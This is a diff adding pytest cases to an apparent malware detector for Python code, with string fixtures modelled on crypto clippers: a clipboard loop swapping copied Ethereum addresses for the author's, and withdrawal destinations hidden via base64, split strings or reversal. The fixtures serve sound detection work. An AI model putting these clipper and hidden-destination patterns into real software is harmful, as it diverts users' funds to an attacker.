@@ -205,3 +205,47 @@ def fetch_data():
 @pytest.mark.parametrize("name", sorted(SPLIT_LOOKALIKES))
 def test_split_harvest_lookalikes_are_clean(name):
     assert found(SPLIT_LOOKALIKES[name]) == []
+
+
+# -- 3. clipboard swaps with the pattern elsewhere; fund destinations hidden in the code --------
+
+ETH = "0x" + "7f3a9c2b1d" * 4
+TRON = "TXk3mQ9vR2pL7sN4wZ8yB6cD1fH5jTab3Q"
+
+
+def test_clipboard_swap_with_the_patterns_in_another_module():
+    # Phylum 2023 clippers: `from .patterns import ETH`; the author's address is in this module
+    src = (f'import pyperclip\nfrom .patterns import BTC, ETH\nMINE = {{"eth": "{ETH}"}}\n'
+           'def loop():\n    text = pyperclip.paste()\n    if ETH.match(text):\n        pyperclip.copy(MINE["eth"])\n')
+    assert found(src) == [(7, "BOT505")]
+
+
+def test_clipboard_rewrite_of_what_was_read_or_configured_is_clean():
+    src = ('import pyperclip\nfrom .patterns import ETH\nfrom web3 import Web3\n'
+           'def fix(cfg):\n    text = pyperclip.paste()\n    if ETH.match(text):\n'
+           '        pyperclip.copy(Web3.to_checksum_address(text))\n    else:\n        pyperclip.copy(cfg["deposit"])\n')
+    assert found(src) == []
+
+
+HIDDEN_DESTINATIONS = {
+    "base64_constant": f'import base64\n_D = base64.b64decode("{base64.b64encode(TRON.encode()).decode()}").decode()\n'
+                       'def fee(ex, x):\n    ex.withdraw("USDT", x, _D, None, {"network": "TRC20"})\n',
+    "joined_in_a_helper": f'from web3 import Web3\n_P = ["{ETH[:12]}", "{ETH[12:]}"]\n'
+                          'def _dest():\n    return Web3.to_checksum_address("".join(_P))\n'
+                          'def refund(w3, bal):\n    return {"to": _dest(), "value": bal, "gas": 21000}\n',
+    "reversed_constant": f'_D = "{TRON[::-1]}"[::-1]\ndef sweep(client, amt):\n'
+                         '    client.withdraw(coin="USDT", address=_D, amount=amt)\n',
+}
+
+
+@pytest.mark.parametrize("name", sorted(HIDDEN_DESTINATIONS))
+def test_hidden_fund_destinations_are_found(name):
+    assert "BOT507" in codes(HIDDEN_DESTINATIONS[name])
+
+
+def test_configured_or_decoded_non_address_destinations_are_clean():
+    src = ('import base64, json\ncfg = json.load(open("sweep.json"))\n'
+           '_TAG = base64.b64decode("bWVtbw==").decode()\n'
+           'def _dest():\n    return cfg["cold_wallet"]\n'
+           'def sweep(ex, x):\n    ex.withdraw("USDT", x, _dest(), _TAG)\n')
+    assert found(src) == []
